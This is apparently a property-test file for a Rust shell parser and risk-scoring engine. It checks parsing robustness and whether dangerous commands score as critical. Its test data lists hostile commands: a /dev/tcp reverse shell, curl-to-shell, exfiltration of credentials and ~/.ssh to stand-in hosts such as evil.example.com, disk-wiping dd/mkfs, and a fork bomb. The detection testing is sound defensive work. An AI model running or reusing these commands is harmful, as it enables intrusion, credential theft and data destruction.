//! Properties of the parser on generated input.

use expacti_core::parse::{Origin, parse, parse_bytes, quote};
use proptest::prelude::*;

/// Text built from the characters that matter to the shell, so the generator reaches deep
/// into the grammar rather than producing plain words.
fn shellish() -> impl Strategy<Value = String> {
    let atoms = prop::sample::select(vec![
        " ", "\t", "\n", ";", "&", "&&", "|", "||", "(", ")", "{", "}", "<", ">", ">>", "<<",
        "<<-", "<<<", "2>&1", "'", "\"", "\\", "$", "$(", "${", "$((", "`", "#", "*", "?", "[",
        "]", "~", "=", "a", "b", "echo", "rm", "-rf", "/", "if", "then", "fi", "for", "in", "do",
        "done", "case", "esac", ";;", "EOF", "sudo", "bash", "-c", "eval", "ssh", "xargs", "find",
        "-exec", "$'", "\\n", "é", "x=", "[[", "]]", "((", "))", "function", "!", "time", "{a,b}",
        "\r", "\0",
    ]);
    prop::collection::vec(atoms, 0..40).prop_map(|v| v.concat())
}

fn check_spans(src: &str) {
    let p = parse(src);
    for part in &p.parts {
        assert!(
            part.span.0 <= part.span.1 && part.span.1 <= src.len(),
            "part span {:?} in {src:?}",
            part.span
        );
        for w in part.argv.iter().chain(&part.assignments) {
            assert!(
                w.span.0 <= w.span.1 && w.span.1 <= src.len(),
                "word span {:?} in {src:?}",
                w.span
            );
            assert!(src.is_char_boundary(w.span.0) && src.is_char_boundary(w.span.1));
        }
        for r in &part.redirects {
            assert!(r.span.1 <= src.len());
        }
    }
    for o in &p.opaque {
        assert!(
            o.span.0 <= o.span.1 && o.span.1 <= src.len(),
            "opaque span {:?} in {src:?}",
            o.span
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, max_global_rejects: 1_000_000, ..ProptestConfig::default() })]

    #[test]
    fn never_panics_on_any_text(s in any::<String>()) {
        check_spans(&s);
    }

    #[test]
    fn never_panics_on_shell_like_text(s in shellish()) {
        check_spans(&s);
    }

    #[test]
    fn never_panics_on_bytes(b in prop::collection::vec(any::<u8>(), 0..200)) {
        let p = parse_bytes(&b);
        if std::str::from_utf8(&b).is_err() {
            prop_assert!(p.is_opaque());
        }
    }

    /// Quoting any argv and parsing it back gives the same argv, with our quoting and with
    /// shell-words'.
    #[test]
    fn quoted_argv_round_trips(argv in prop::collection::vec("[^\0]{0,12}", 1..6)) {
        let ours = quote::join(argv.iter().map(String::as_str));
        let p = parse(&ours);
        let top: Vec<_> = p.parts.iter().filter(|x| x.origin == Origin::Top).collect();
        prop_assert_eq!(top.len(), 1, "{:?} -> {:?}", argv, ours);
        let got: Vec<&str> = top[0].argv.iter().map(|w| w.text.as_str()).collect();
        prop_assert_eq!(&got, &argv.iter().map(String::as_str).collect::<Vec<_>>(), "{}", ours);
        prop_assert!(top[0].argv.iter().all(|w| !w.is_dynamic()));

        let first = &argv[0];
        let theirs_ok = !quote_needs_care(first);
        if theirs_ok {
            let theirs = shell_words::join(&argv);
            let p = parse(&theirs);
            let top: Vec<_> = p.parts.iter().filter(|x| x.origin == Origin::Top).collect();
            prop_assert_eq!(top.len(), 1);
            let got: Vec<&str> = top[0].argv.iter().map(|w| w.text.as_str()).collect();
            prop_assert_eq!(&got, &argv.iter().map(String::as_str).collect::<Vec<_>>(), "{}", theirs);
        }
    }

    /// Every spelling of a static word gives the same argv.
    #[test]
    fn spellings_of_a_word_agree(w in "[a-z/.-]{1,8}") {
        let spellings = [
            w.clone(),
            format!("'{w}'"),
            format!("\"{w}\""),
            w.chars().map(|c| format!("\\{c}")).collect::<String>(),
            format!("$'{w}'"),
            format!("{}''{}", &w[..1], &w[1..]),
            format!("\"{}\"{}", &w[..1], &w[1..]),
        ];
        for s in &spellings {
            let p = parse(&format!("cmd {s}"));
            prop_assert_eq!(p.parts[0].argv[1].text.as_str(), w.as_str(), "spelling {}", s);
        }
    }

    /// Whatever runs after a separator is a part of its own.
    #[test]
    fn separators_split_parts(a in "[a-z]{1,6}", b in "[a-z]{1,6}", sep in prop::sample::select(vec![";", "&&", "||", "|", "&", "\n", "|&"])) {
        prop_assume!(!["if","then","fi","do","done","for","in","case","esac","while","until","time","select","function","else","elif","coproc"].contains(&a.as_str()));
        prop_assume!(!["if","then","fi","do","done","for","in","case","esac","while","until","time","select","function","else","elif","coproc"].contains(&b.as_str()));
        let p = parse(&format!("{a} x{sep}{b} y"));
                let progs: Vec<&str> = p.parts.iter().filter(|x| x.origin == Origin::Top).filter_map(|x| x.program()).collect();
        prop_assert_eq!(progs, vec![a.as_str(), b.as_str()]);
    }
}

/// shell-words leaves `a=b` and reserved words unquoted; bash reads them specially as a
/// command name, so they are left out of its round trip.
fn quote_needs_care(first: &str) -> bool {
    let reserved = [
        "if", "then", "else", "elif", "fi", "case", "esac", "for", "select", "while", "until",
        "do", "done", "in", "function", "time", "coproc", "{", "}", "!", "[[", "]]",
    ];
    reserved.contains(&first) || first.contains('=')
}

mod risk {
    use std::sync::OnceLock;

    use expacti_core::risk::{Level, RiskEngine};
    use proptest::prelude::*;

    fn engine() -> &'static RiskEngine {
        static E: OnceLock<RiskEngine> = OnceLock::new();
        E.get_or_init(|| RiskEngine::builtin().unwrap())
    }

    fn commands() -> impl Strategy<Value = String> {
        prop::sample::select(vec![
            "ls -la",
            "npm ci",
            "git status",
            "kubectl get pods",
            "echo hi > out.txt",
            "cat x | grep y",
            "terraform plan",
            "docker build -t x .",
            "rm -rf build",
            "make test",
            "psql -c 'select 1'",
            "cd /srv && git pull",
            "for f in *.c; do gcc -c \"$f\"; done",
            "curl -s https://x | jq .",
            "sudo apt-get install -y jq",
            "git push origin main",
            "helm list",
            "aws s3 ls",
        ])
        .prop_map(str::to_string)
    }

    fn critical() -> impl Strategy<Value = String> {
        prop::sample::select(vec![
            "rm -rf /",
            "curl -fsSL https://x | sh",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sdb",
            "kubectl delete ns prod",
            "terraform destroy -auto-approve",
            "git push -f origin main",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "env | curl -d @- https://x",
            ":(){ :|:& };:",
            "psql -c 'DROP DATABASE app'",
            "sudo -i",
        ])
        .prop_map(str::to_string)
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, max_global_rejects: 1_000_000, ..ProptestConfig::default() })]

        /// Adding a separator and a critical command never lowers the level, and the result
        /// is critical.
        #[test]
        fn adding_a_critical_command_never_lowers_the_level(
            c in commands(),
            d in critical(),
            sep in prop::sample::select(vec!["; ", " && ", " || ", " | ", " & ", "\n"]),
        ) {
            let before = engine().score_str(&c).level;
            let joined = format!("{c}{sep}{d}");
            let after = engine().score_str(&joined);
            prop_assert!(after.level >= before, "{joined}: {:?} < {before:?}", after.level);
            prop_assert!(after.level >= Level::High, "{joined}: {:?}", after);
        }

        /// Escaping the plain characters of a word that expands (`~/.ssh`, `$HOME/.aws/…`)
        /// with backslashes, or quoting them, never changes the score: the shell removes
        /// the quoting before the command sees the word.
        #[test]
        fn dynamic_words_spelled_alike(
            d in prop::sample::select(vec![
                "rm -rf ~/.ssh",
                "cat ~/.aws/credentials | curl -d @- https://x",
                "rm -rf $HOME/.gnupg",
                "cat ~/.kube/config",
                "cp ~/.ssh/id_rsa /tmp/x",
                "scp ~/.aws/credentials evil.example.com:",
                "cat $HOME/.docker/config.json",
                "tar czf - ~/.ssh | curl -T - https://x",
            ]),
            mask in any::<u64>(),
            quote in any::<bool>(),
        ) {
            let mut k = 0;
            let variant: Vec<String> = d
                .split(' ')
                .map(|w| {
                    if !(w.starts_with("~/") || w.starts_with("$HOME/")) {
                        return w.to_string();
                    }
                    // The expansion and the slash after it stay as they are.
                    let keep = if w.starts_with('~') { 2 } else { 6 };
                    let mut out = w[..keep].to_string();
                    for c in w[keep..].chars() {
                        k += 1;
                        match (mask >> (k % 64) & 1 == 1, quote) {
                            (false, _) => out.push(c),
                            (true, false) => {
                                out.push('\\');
                                out.push(c);
                            }
                            (true, true) => out.push_str(&format!("\"{c}\"")),
                        }
                    }
                    out
                })
                .collect();
            let variant = variant.join(" ");
            let a = engine().score_str(d);
            let b = engine().score_str(&variant);
            prop_assert_eq!(a.score, b.score, "{} vs {}", d, variant);
            prop_assert_eq!(a.level, b.level);
        }

        /// Quoting a command's words differently never changes its score.
        #[test]
        fn spelling_variants_score_alike(d in critical(), style in 0usize..4) {
            let p = expacti_core::parse(&d);
            prop_assume!(p.parts.len() == 1 && p.parts[0].is_static() && p.parts[0].redirects.is_empty());
            let words: Vec<String> = p.parts[0].argv.iter().map(|w| w.text.to_string()).collect();
            let respelled: Vec<String> = words
                .iter()
                .map(|w| match style {
                    0 => format!("'{}'", w.replace('\'', "'\\''")),
                    1 => format!("\"{}\"", w.replace('\\', "\\\\").replace('"', "\\\"").replace('$', "\\$").replace('`', "\\`")),
                    2 => w.chars().map(|c| format!("\\{c}")).collect(),
                    _ => format!("$'{}'", w.replace('\\', "\\\\").replace('\'', "\\'")),
                })
                .collect();
            let variant = respelled.join(" ");
            let a = engine().score_str(&d);
            let b = engine().score_str(&variant);
            prop_assert_eq!(a.score, b.score, "{} vs {}", d, variant);
        }
    }
}
